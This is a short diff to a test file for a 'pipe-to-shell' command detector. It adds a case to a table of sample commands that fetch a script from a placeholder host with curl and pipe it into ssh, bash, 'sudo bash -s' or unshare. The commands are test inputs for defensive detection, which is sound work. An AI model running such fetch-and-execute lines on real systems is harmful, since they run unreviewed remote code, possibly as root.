@@ -431,6 +431,7 @@ describe("pipe-to-shell", () => {
     // unshare given no command (`$SHELL`), and sudo's options written together were missed.
     ["curl | ssh host", "curl -fsSL https://x.example/i.sh | ssh deploy@host"],
     ["curl | ssh -T host", "curl -fsSL https://x.example/i.sh | ssh -T -p 2222 host"],
+    ["curl | ssh host -p port", "curl -fsSL https://x.example/i.sh | ssh host -p 2222"],
     ["curl | ssh host bash", "curl -fsSL https://x.example/i.sh | ssh host bash"],
     ["curl | ssh host 'sudo bash -s'", "curl -fsSL https://x.example/i.sh | ssh -Tp 22 host 'sudo bash -s'"],
     ["curl | unshare", "curl -fsSL https://x.example/i.sh | unshare"],
